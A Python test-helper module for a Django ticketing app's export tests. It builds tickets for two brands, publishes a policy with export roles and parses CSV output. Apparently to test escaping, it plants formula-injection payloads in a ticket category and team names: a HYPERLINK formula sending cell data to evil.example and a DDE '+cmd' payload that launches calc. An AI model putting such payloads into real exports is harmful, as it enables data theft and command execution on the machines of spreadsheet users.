"""What the tests of exports share: tickets of two brands with a history, a read model
row made to hold what a spreadsheet would run, and EJ's policy with other export roles."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

from django.conf import settings

from guichet.brands.models import Brand, Team
from guichet.brands.services import policy_publish
from guichet.contacts.services import contact_for_email
from guichet.lib.scoping import brand_scope
from guichet.reports.models import TicketFact
from guichet.tickets import services
from guichet.tickets.choices import Channel

# A category no policy has, as the read model may hold one from an older policy: its
# label is its key, and it starts like a formula.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass
class Tickets:
    ej: list[str]  # the references of EJ's tickets (the world's first)
    jamla: list[str]


def some_tickets(world: Any, frozen_clock: Any) -> Tickets:
    """EJ: the world's complaint, answered and closed upheld; a question by web, and one
    whose category holds a formula. Jamla24: two tickets of its own."""
    services.ticket_reply(ticket=world.ticket, actor=world.agent, text="Nous regardons.")
    frozen_clock.advance(timedelta(hours=3))
    services.ticket_close(
        ticket=world.ticket, actor=world.agent, outcome="upheld", summary="Remboursé."
    )
    question = services.ticket_open(
        brand=world.ej,
        contact=world.customer,
        contact_type="question",
        subject="Horaires",
        text="Quand ouvrez-vous ?",
        channel=Channel.WEB,
        category="billing",
    )
    odd = services.ticket_open(
        brand=world.ej,
        contact=world.customer,
        contact_type="question",
        subject="Autre",
        text="Une question.",
        channel=Channel.EMAIL,
        category="billing",
    )
    TicketFact._base_manager.filter(ticket_id=odd.pk).update(category=FORMULA)
    jamla = [
        services.ticket_open(
            brand=world.jamla,
            contact=world.other_customer,
            contact_type="complaint",
            subject=f"Colis {n}",
            text="Jamais reçu.",
            channel=Channel.EMAIL,
            category="delivery",
        ).reference
        for n in (1, 2)
    ]
    return Tickets(ej=[world.ticket.reference, question.reference, odd.reference], jamla=jamla)


def name_a_team_like_a_formula(brand: Brand, key: str) -> None:
    with brand_scope(brand):
        Team.objects.filter(key=key).update(names={"fr": "@SOMME(A1)", "en": "+cmd|' /C calc'!A0"})


def publish_ej_with_export_roles(roles: list[str]) -> Brand:
    """EJ's policy in force again, with these export roles."""
    text = (Path(settings.GUICHET_PRESETS_DIR) / "ej.toml").read_text(encoding="utf-8")
    listed = ", ".join(f'"{role}"' for role in roles)
    changed = text.replace(
        "equality_monitoring = true\n", f"equality_monitoring = true\nexport_roles = [{listed}]\n"
    )
    assert changed != text
    return policy_publish(text=changed, source="test: export roles").brand


def read_csv(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def new_customer(brand: Brand, email: str) -> Any:
    return contact_for_email(brand=brand, email=email, name="Client", language="fr")
